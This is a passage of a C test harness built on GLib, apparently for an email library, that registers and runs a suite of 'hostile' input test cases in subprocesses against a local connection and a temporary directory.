  connection = g_socket_client_connect_to_host (client, "127.0.0.1", fx.port, NULL, &error);
  g_assert_no_error (error);
  deadline = g_get_monotonic_time () + 10 * G_USEC_PER_SEC;
  while (fx.connections == 0 && g_get_monotonic_time () < deadline)
    {
      dispatch_pending ();
      g_usleep (1000);
    }
  g_assert_cmpuint (fx.connections, ==, 1);
  g_io_stream_close (G_IO_STREAM (connection), NULL, NULL);

  fixture_teardown (&fx);
}

static void
test_self_check (void)
{
  if (g_test_subprocess ())
    {
      run_self_check ();
      return;
    }

  g_test_trap_subprocess (NULL, (guint64) 60 * G_USEC_PER_SEC,
                          G_TEST_SUBPROCESS_INHERIT_STDOUT | G_TEST_SUBPROCESS_INHERIT_STDERR);
  g_test_trap_assert_passed ();
}

int
main (int argc, char **argv)
{
  g_autofree char *tmp_dir = NULL;
  int status;

  g_test_init (&argc, &argv, NULL);

  if (!g_test_subprocess ())
    {
      g_autoptr(GError) error = NULL;

      /* A failed case fails its test path only (see test_hostile ());
       * inside the case's subprocess every assertion stays fatal. */
      g_test_set_nonfatal_assertions ();

      tmp_dir = g_dir_make_tmp ("email2-hostile-XXXXXX", &error);
      g_assert_no_error (error);
      g_assert_true (g_setenv (TMP_ENV, tmp_dir, TRUE));
    }

  g_test_add_func ("/hostile/self-check", test_self_check);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/hostile/%s", cases[i].name);

      /* A build without WBXML cannot even make these payloads. */
      if (g_str_has_prefix (cases[i].name, "wbxml-") && !email2_wbxml_is_available ())
        continue;
      g_test_add_data_func (path, &cases[i], test_hostile);
    }

  status = g_test_run ();

  if (tmp_dir != NULL)
    email2_test_remove_tree (tmp_dir);

  return status;
}
